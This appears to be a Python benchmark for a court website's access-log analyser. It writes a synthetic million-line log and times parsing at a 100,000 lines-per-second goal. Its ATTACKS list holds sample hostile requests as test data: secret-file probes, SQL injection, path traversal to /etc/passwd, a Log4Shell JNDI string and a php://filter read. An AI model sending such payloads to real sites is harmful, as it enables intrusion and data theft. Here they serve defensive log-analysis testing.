"""Benchmark: F.3 on a 1,000,000-line access log (goal: at least 100,000 lines per second).

Writes a day of a busy court website into a temporary log folder (the live ``access.log`` plain,
its rotation gzipped, as logrotate leaves them): page views with their asset loads, bots, staff
in /wp-admin behind the reverse proxy (X-Forwarded-For in front of the client), nginx "main"
lines, scanners, SQL injection, traversal, Log4Shell and a distributed wp-login brute force,
plus a few 60 KB junk lines. Then times what the module does: ``read_records`` (gzip included)
and ``analyze``, and prints lines per second, and the same on the plain text file alone.

Run: ``python tests/bench/bench_weblog.py [--lines 1000000]`` (prints RESULT lines; exits 1 if
under the goal). No network.
"""

from __future__ import annotations

import argparse
import gzip
import random
import sys
import tempfile
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import ansible.module_utils

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT / "module_utils") not in ansible.module_utils.__path__:
    ansible.module_utils.__path__.append(str(ROOT / "module_utils"))

from ansible.module_utils.court_web.accesslog import analyze, iter_log_files, read_records  # noqa: E402

GOAL = 100_000
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/129.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.6 Mobile/15E148",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
]
PAGES = [
    "/",
    "/berita/sidang-keliling",
    "/jadwal-sidang/?tanggal=2026-11-20",
    "/layanan/ecourt",
    "/?s=putusan",
    "/wp-content/uploads/2026/11/putusan-{n}.pdf",
    "/berita/page/{n}/",
    "/feed/",
]
ASSETS = [
    "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
    "/wp-content/themes/court/style.css?ver=6.4.2",
    "/wp-content/plugins/elementor/assets/css/frontend.min.css?ver=3.18",
    "/wp-content/uploads/2026/11/banner.webp",
]
ATTACKS = [
    "/.env",
    "/.git/config",
    "/wp-content/plugins/revslider/readme.txt",
    "/phpmyadmin/",
    "/berita.php?id=1%20UNION%20ALL%20SELECT%20NULL,user()--",
    "/index.php?page=..%252f..%252fetc%252fpasswd",
    "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fa%7D",
    "/index.php?file=php://filter/resource=index.php",
]


def write_log(folder: Path, total: int) -> None:
    rnd = random.Random(2026)
    start = datetime(2026, 11, 20, 0, 0, tzinfo=UTC)
    step = 86400 / total
    half = total // 2
    out = []
    for i in range(total):
        when = (start + timedelta(seconds=i * step)).strftime("%d/%b/%Y:%H:%M:%S +0700")
        kind = rnd.random()
        a, b, c = rnd.randrange(256), rnd.randrange(256), rnd.randrange(1, 255)
        ip = f"{rnd.choice((36, 103, 114, 180))}.{a}.{b}.{c}"
        agent, ref, method, status = rnd.choice(AGENTS), "https://www.pn-contoh.invalid/", "GET", 200
        if kind < 0.25:
            path = rnd.choice(PAGES).format(n=rnd.randrange(1, 400))
        elif kind < 0.80:
            path = rnd.choice(ASSETS)
        elif kind < 0.90:  # staff behind the reverse proxy, X-Forwarded-For in front
            ip = f"192.168.10.{rnd.randrange(2, 40)}, 10.0.0.2"
            path, method = (
                rnd.choice(("/wp-admin/admin-ajax.php", "/wp-admin/post.php?post=12&action=edit")),
                "POST",
            )
        elif kind < 0.95:  # nginx "main" line with a trailing X-Forwarded-For
            out.append(f'10.0.0.2 - - [{when}] "GET / HTTP/1.1" 200 612 "-" "{agent}" "{ip}"\n')
            continue
        elif kind < 0.985:
            path, status, agent = rnd.choice(ATTACKS), 404, "Mozilla/5.0 zgrab/0.x"
        elif kind < 0.9999:
            path, method = "/wp-login.php", "POST"
        else:
            out.append(f'{ip} - - [{when}] "GET /' + "A" * 60_000 + "\n")
            continue
        out.append(
            f'{ip} - - [{when}] "{method} {path} HTTP/1.1" {status} {rnd.randrange(200, 90000)} '
            f'"{ref}" "{agent}"\n'
        )
    with gzip.open(folder / "access.log.1.gz", "wt", compresslevel=6) as f:
        f.writelines(out[:half])
    (folder / "access.log").write_text("".join(out[half:]))


def run(folder: Path, name: str) -> tuple[int, float, float, dict]:
    """Return (lines, wall seconds, CPU seconds of this process, the F.3 result)."""
    t, cpu = time.perf_counter(), time.process_time()
    res = analyze(read_records(iter_log_files(str(folder), name)))
    return res["lines"], time.perf_counter() - t, time.process_time() - cpu, res


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--lines", type=int, default=1_000_000)
    args = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="bench-weblog-") as tmp:
        folder = Path(tmp)
        t = time.perf_counter()
        write_log(folder, args.lines)
        print(f"wrote {args.lines} lines in {time.perf_counter() - t:.1f} s", flush=True)
        lines, took, cpu, res = run(folder, "access.log")
        rate = lines / took
        print(f"read+analyze: {lines} lines in {took:.2f} s ({cpu:.2f} s of CPU); findings: "
              + ", ".join(sorted({f['code'] for f in res['findings']})))  # fmt: skip
        # the plain text half alone (no gzip): the parser's own rate
        (folder / "access.log.1.gz").unlink()
        plain_lines, plain_took, plain_cpu, _res = run(folder, "access.log")
    print(
        f"RESULT | F.3 access log, {lines:,} lines (half gzipped) | {rate:,.0f} lines/s | >= {GOAL:,} lines/s"
    )
    print(f"RESULT | F.3 access log, {plain_lines:,} plain lines | {plain_lines / plain_took:,.0f} lines/s | "
          f">= {GOAL:,} lines/s")  # fmt: skip
    # on a shared machine the wall clock includes time the process waited for a core: the rate
    # per CPU second is what F.3 itself achieves (on an idle core the two are the same)
    print(f"RESULT | F.3 access log, {lines:,} lines, per CPU second (wall/CPU {took / cpu:.2f}) | "
          f"{lines / cpu:,.0f} lines/s | >= {GOAL:,} lines/s")  # fmt: skip
    return 0 if rate >= GOAL else 1


if __name__ == "__main__":
    sys.exit(main())
